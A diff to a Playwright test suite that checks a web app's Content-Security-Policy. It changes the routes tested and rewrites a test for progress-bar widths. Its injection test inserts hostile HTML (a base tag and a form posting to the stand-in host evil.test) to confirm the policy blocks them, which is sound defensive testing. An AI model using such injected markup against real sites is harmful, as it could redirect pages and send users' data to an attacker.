@@ -37,7 +37,7 @@ test.describe("under its Content-Security-Policy", () => {
 
       test("every page works, and nothing of it is refused", async ({ page, context, person }) => {
         const complaints = await watch(context);
-        for (const path of ["/", "/orders", "/orders/7", "/team", "/playground"]) {
+        for (const path of ["/orders", "/orders/7", "/playground"]) {
           await page.goto(path);
           await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
           await expect(page.locator("[data-connection=live]")).toBeVisible();
@@ -59,7 +59,7 @@ test.describe("under its Content-Security-Policy", () => {
   }) => {
     const complaints = await watch(context);
     await person.hasMany(150);
-    const inbox = await Inbox.open(page, "/");
+    const inbox = await Inbox.open(page, "/playground");
     await person.notify("A toast", { link: "/orders/7" });
     await expect(page.getByRole("dialog", { name: "A toast" }).or(page.getByText("A toast")).first()).toBeVisible();
     await inbox.openPanel();
@@ -81,14 +81,13 @@ test.describe("under its Content-Security-Policy", () => {
     expect(complaints).toEqual([]);
   });
 
-  test("bars and routes have their sizes without style attributes", async ({ page }) => {
-    const html = await (await page.context().request.get("/")).text();
-    expect(html).not.toMatch(/ style=/);
-    expect(await (await page.context().request.get("/orders/7")).text()).not.toMatch(/ style=/);
-    await page.goto("/");
-    const heights = await page.locator("figure svg").evaluateAll((bars) => bars.map((bar) => bar.clientHeight));
-    expect(heights.length).toBeGreaterThanOrEqual(5);
-    expect(Math.max(...heights)).toBeGreaterThan(2 * Math.min(...heights));
+  test("progress bars have their widths without style attributes", async ({ page }) => {
+    for (const path of ["/orders", "/orders/7"])
+      expect(await (await page.context().request.get(path)).text()).not.toMatch(/ style=/);
+    await page.goto("/orders");
+    const widths = await page.locator("li svg[width$='%']").evaluateAll((bars) => bars.map((bar) => bar.clientWidth));
+    expect(widths.length).toBeGreaterThanOrEqual(5);
+    expect(Math.max(...widths)).toBeGreaterThan(2 * Math.min(...widths));
   });
 
   test("a script that got into a page does not run, in any form", async ({ page, context }) => {
@@ -101,12 +100,12 @@ test.describe("under its Content-Security-Policy", () => {
       <base href="https://evil.test/">
       <style>body { outline: 7px solid red }</style>
       <object data="/icon.svg"></object>`;
-    await page.route("**/team", async (route) => {
+    await page.route("**/orders", async (route) => {
       const response = await route.fetch();
       await route.fulfill({ response, body: (await response.text()).replace("<main", `${html}<main`) });
     });
     const complaints = await watch(context);
-    await page.goto("/team");
+    await page.goto("/orders");
     await page.evaluate(() => {
       const leak = Object.assign(document.createElement("form"), { action: "https://evil.test/", method: "post" });
       document.body.append(leak);
@@ -127,7 +126,7 @@ test.describe("under its Content-Security-Policy", () => {
     expect(await page.evaluate(() => (globalThis as { ran?: string }).ran)).toBeUndefined();
     expect(await page.evaluate(() => document.baseURI)).not.toContain("evil");
     expect(await page.evaluate(() => getComputedStyle(document.body).outlineWidth)).not.toBe("7px");
-    expect(await page.evaluate(() => location.pathname)).toBe("/team");
+    expect(await page.evaluate(() => location.pathname)).toBe("/orders");
   });
 
   test("a script for a link, be it in the database already, is never run", async ({ page, context, person }) => {
